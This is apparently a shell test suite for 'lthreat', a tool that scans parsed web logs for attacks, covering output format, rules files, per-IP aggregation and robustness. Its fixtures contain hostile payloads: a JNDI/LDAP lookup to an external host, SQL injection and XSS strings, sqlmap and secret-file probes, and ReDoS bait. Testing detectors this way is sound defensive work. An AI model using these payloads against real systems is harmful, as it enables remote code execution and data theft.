#!/bin/sh
# lthreat: findings, annotate, summary, rules files, per-IP aggregation,
# exit status, hostile input.

. "${0%/*}/lib.sh"

T=$DATA/threat

# jq -e over all records at once (jq 1.6 -e looks only at the last output)
jqs() { jq -se "$@"; }

test_expect_success 'usage errors exit 2 with a message' '
	test_status 2 lthreat --multi abc </dev/null 2>err &&
	grep "^lthreat: --multi: .abc. is not a number" err &&
	test_status 2 lthreat --json --format text </dev/null 2>err &&
	grep "^lthreat: --json and --format text do not go together" err &&
	test_status 2 lthreat --annotate --summary </dev/null &&
	test_status 2 lthreat --no-builtin </dev/null 2>err &&
	grep "no rules" err
'

test_expect_success 'nothing found: exit 1, no output' '
	lparse $T/benign.log >benign.ndjson &&
	test_status 1 lthreat benign.ndjson >out &&
	test_line_count 0 out
'

test_expect_success 'findings: golden output for two records' '
	lparse $T/own.log | sed -n "1p;22p" >two.ndjson &&
	test_status 0 lthreat two.ndjson >out &&
	cat >expect <<-\EOF &&
	{"type":"jndi_injection","severity":"critical","rule":"jndi-lookup","field":"path","match":"${jndi","timestamp":"2024-03-12T10:00:01Z","ip":"203.0.113.10","source":"own.log","message":"GET /search?q=${jndi:ldap://203.0.113.99:1389/a} HTTP/1.1","status":200}
	{"type":"sql_injection","severity":"high","rule":"sqli-union","field":"path","match":"union select","encodings":["url","nul_bytes"],"timestamp":"2024-03-12T10:04:02Z","ip":"198.51.100.50","source":"own.log","message":"GET /page?id=1%00%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1","status":500}
	EOF
	test_cmp expect out &&
	test_json_lines out
'

# Our own fixtures for what the corpus lacks: one TAP line per labelled line.
lparse -n $T/own.log 2>/dev/null | lthreat --annotate >own.ann 2>/dev/null
while IFS='	' read -r line type sev what; do
	[ "$line" = line ] && continue
	test_expect_success "own fixture $line: $what is $type ($sev)" "
		jqs 'map(select(.line == $line))[0].threats | any(.type == \"$type\" and .severity == \"$sev\")' own.ann
	"
done <$T/own.tsv

test_expect_success 'a 404 lowers scanner and sensitive_file probes to low, not others' '
	jqs "[.[] | select(.status == 404) | .threats[] | select(.type == \"scanner\" or .type == \"sensitive_file\") | .severity] | length > 4 and all(. == \"low\")" own.ann &&
	jqs "map(select(.line == 6))[0] | .status == 404 and .threats[0].severity == \"critical\"" own.ann
'

test_expect_success '--annotate passes every record through, in order, byte for byte' '
	lparse -n $T/own.log $T/benign.log >all.ndjson &&
	lthreat --annotate all.ndjson >ann &&
	test_line_count $(wc -l <all.ndjson) ann &&
	jq -c "del(.threats)" ann >stripped &&
	jq -c . all.ndjson >orig &&
	test_cmp orig stripped &&
	grep -v threats ann >untouched &&
	grep -F -f untouched all.ndjson >same &&
	test_cmp untouched same &&
	test_json_lines ann
'

test_expect_success '--annotate on an empty object and on a record with CR' '
	printf "{}\n{\"path\":\"/.env\"}\r\n" >odd.ndjson &&
	lthreat --annotate odd.ndjson >out &&
	printf "{}\n{\"path\":\"/.env\",\"threats\":[{\"type\":\"sensitive_file\",\"severity\":\"medium\",\"rule\":\"sensitive-dotfile\",\"field\":\"path\"}]}\n" >expect &&
	test_cmp expect out
'

test_expect_success 'every type matched by a record is reported, one finding each' '
	printf "{\"ip\":\"192.0.2.9\",\"path\":\"/a?x=%%27%%20union%%20select%%201--&y=<script>alert(1)</script>\",\"user_agent\":\"sqlmap/1.7\"}\n" >multi.ndjson &&
	lthreat multi.ndjson >out &&
	jq -r .type out | sort >types &&
	printf "scanner\nsql_injection\nxss_attempt\n" >expect &&
	test_cmp expect types &&
	jqs "map(select(.type == \"scanner\"))[0].field == \"user_agent\"" out
'

test_expect_success 'multi_threat_source at the crossing, then a final update' '
	for i in 1 2 3 4 5 6 7; do
		printf "{\"timestamp\":\"2026-01-01T00:00:0%sZ\",\"ip\":\"203.0.113.7\",\"path\":\"/x?id=%%27%%20or%%201=1--\"}\n" $i
	done >seven.ndjson &&
	lthreat --multi 5 seven.ndjson >out &&
	jq -c "select(.type == \"multi_threat_source\") | [.ip, .threat_count, .threat_types, .first_seen, .last_seen, .final, .severity]" out >multi &&
	cat >expect <<-\EOF &&
	["203.0.113.7",6,["sql_injection"],"2026-01-01T00:00:01Z","2026-01-01T00:00:06Z",false,"critical"]
	["203.0.113.7",7,["sql_injection"],"2026-01-01T00:00:01Z","2026-01-01T00:00:07Z",true,"critical"]
	EOF
	test_cmp expect multi &&
	sed -n 7p out | jq -e ".type == \"multi_threat_source\" and .threat_count == 6" &&
	lthreat --multi 7 seven.ndjson >out2 &&
	! grep multi_threat_source out2
'

test_expect_success 'streaming: findings come out while the input is still open' '
	mkfifo live &&
	{ lthreat --multi 1 live >streamed & } &&
	exec 3>live &&
	printf "{\"ip\":\"203.0.113.8\",\"path\":\"/.env\"}\n{\"ip\":\"203.0.113.8\",\"path\":\"/.git/config\"}\n" >&3 &&
	i=0 && while ! grep -q multi_threat_source streamed 2>/dev/null && test $i -lt 100; do
		sleep 0.1; i=$((i + 1))
	done &&
	grep -c "\"final\":false" streamed >count &&
	exec 3>&- && wait &&
	echo 1 >expect && test_cmp expect count &&
	grep -q "\"final\":true" streamed
'

test_expect_success 'gzip input' '
	gzip -c benign.ndjson >b.ndjson.gz && lparse $T/own.log | gzip -c >o.ndjson.gz &&
	lthreat --summary --json b.ndjson.gz o.ndjson.gz >sum.json &&
	jq -e ".records == 32 and .flagged == 25" sum.json
'

test_expect_success '--summary: text table and --json' '
	lparse $T/own.log $T/benign.log >all2.ndjson &&
	lthreat --summary all2.ndjson >sum &&
	grep "^records  *32$" sum &&
	grep "^flagged records  *25 " sum &&
	grep "^  jndi_injection  *6$" sum &&
	grep "^top attacking IPs" sum &&
	lthreat --summary --json --top 2 all2.ndjson >sum.json &&
	test_json_lines sum.json &&
	jq -e ".records == 32 and .flagged == 25 and .by_type.scanner == 6 and (.top_ips | length) == 2 and .top_ips[0].count == 6 and .top_paths[0].count >= 1 and .ips_dropped == 0" sum.json
'

test_expect_success '--max-ips bounds the table and counts what it dropped' '
	lthreat --summary --json --max-ips 2 all2.ndjson >sum.json &&
	jq -e ".ips_dropped > 0 and .top_ips_error_bound > 0" sum.json &&
	lthreat --summary --max-ips 2 all2.ndjson >sum.txt &&
	grep "^IPs dropped " sum.txt && grep "counts may exceed the truth" sum.txt
'

test_expect_success 'memory stays bounded: 20000 attacking addresses, --max-ips 100' '
	awk "BEGIN { for (i = 0; i < 20000; i++) printf \"{\\\"ip\\\":\\\"10.%d.%d.%d\\\",\\\"path\\\":\\\"/.env\\\"}\\n\", i / 65536, i / 256 % 256, i % 256 }" >many.ndjson &&
	test_line_count 20000 many.ndjson &&
	lthreat --summary --json --max-ips 100 --multi 0 many.ndjson >sum.json &&
	jq -e ".records == 20000 and .findings == 20000 and .ips_dropped == 19900 and .multi_threat_sources == 20000" sum.json &&
	lthreat --max-ips 100 --multi 0 many.ndjson >out &&
	test $(grep -c "\"final\":true" out) -eq 100
'

test_expect_success 'values seen again (from the verdict cache) give the same findings' '
	lparse $T/own.log $T/benign.log >once.ndjson &&
	cat once.ndjson once.ndjson once.ndjson | lthreat --annotate >thrice &&
	n=$(wc -l <once.ndjson) &&
	head -n $n thrice >first && tail -n $n thrice >last &&
	test_cmp first last &&
	test $(grep -c threats first) -eq 25
'

test_expect_success '--rules adds rules; --no-builtin drops the built-in ones' '
	printf "{\"path\":\"/admin/login\",\"user_agent\":\"EvilBot/2\"}\n" >site.ndjson &&
	lthreat --rules $T/custom.rules site.ndjson >out &&
	jq -r "[.type, .rule, .severity, .field] | @tsv" out >got &&
	printf "admin_probe\tsite-admin\tmedium\tpath\nbad_bot\tsite-bot\tlow\tuser_agent\n" >expect &&
	test_cmp expect got &&
	lparse $T/own.log >own.ndjson &&
	test_status 1 lthreat --no-builtin --rules $T/custom.rules own.ndjson
'

test_expect_success 'a bad rules file: "lthreat: FILE:LINE: what", exit 2' '
	test_status 2 lthreat --rules $T/bad.rules </dev/null 2>err &&
	echo "lthreat: $T/bad.rules:2: bad severity '"'"'severe'"'"' (low, medium, high, critical)" >expect &&
	test_cmp expect err &&
	test_status 2 lthreat --rules nonexistent.rules </dev/null 2>err &&
	grep "^lthreat: nonexistent.rules: No such file or directory$" err &&
	printf "# c\nh1\tt\tlow\tstatus,hostname\tx\td\n" >nofield.rules &&
	test_status 2 lthreat --rules nofield.rules </dev/null 2>err &&
	grep "^lthreat: nofield.rules:2: rule .h1. names no field lthreat scans" err
'

test_expect_success '--list-rules round-trips through --rules' '
	lthreat --list-rules >all.rules &&
	test $(grep -vc "^#" all.rules) -ge 40 &&
	lthreat --no-builtin --rules all.rules --list-rules >again &&
	test_cmp all.rules again
'

test_expect_success 'input that is not NDJSON: file:line message, exit 2, other records scanned' '
	printf "{\"path\":\"/.git/config\"}\nnot json\n{\"path\":\"/.env\"}\n" >mixed.ndjson &&
	test_status 2 lthreat mixed.ndjson >out 2>err &&
	grep "^lthreat: mixed.ndjson:2: not a JSON object" err &&
	test_line_count 2 out
'

test_expect_success 'hostile values: NULs, invalid UTF-8, escapes; output stays valid JSON' '
	printf "{\"path\":\"/a?x=%%00%%27%%20or%%201=1--\\\\u0000\\\\u001b[31m\\377\\376<script>\",\"user_agent\":\"\\300\\256\\300\\256/\\\\u0000\"}\n" >hostile.ndjson &&
	lthreat hostile.ndjson >out &&
	test_json_lines out &&
	jqs "map(select(.type == \"sql_injection\"))[0].encodings | index(\"nul_bytes\") != null" out &&
	jqs "map(select(.type == \"xss_attempt\")) | length == 1" out
'

test_expect_success 'a 1 MB value built to make patterns backtrack ends quickly' '
	yes "%27((((((((((((((" | head -n 65536 | tr -d "\n" >bait &&
	{ printf "{\"path\":\"/a?x=" && cat bait && printf "%%27%%20or%%201=1--\",\"user_agent\":\"" &&
	  cat bait && printf "\"}\n"; } >big.ndjson &&
	test $(wc -c <big.ndjson) -gt 1000000 &&
	timeout 60 lthreat --summary --json big.ndjson >sum.json &&
	test_json_lines sum.json &&
	jq -e ".flagged == 1 and .by_type.sql_injection == 1" sum.json
'

test_expect_success 'a catastrophic pattern hits the match limit, counted, not a hang' '
	{ printf "{\"path\":\"/" && yes a | head -n 5000 | tr -d "\n" && printf "!\"}\n"; } >redos.ndjson &&
	test_status 1 timeout 60 lthreat --no-builtin --rules $T/redos.rules --summary --json redos.ndjson >sum.json &&
	jq -e ".limit_hits >= 1 and .flagged == 0" sum.json
'

test_expect_success 'write errors are reported' '
	if test -w /dev/full; then
		test_status 2 lthreat --annotate all.ndjson >/dev/full 2>err &&
		grep "^lthreat: write error" err
	fi
'

test_done
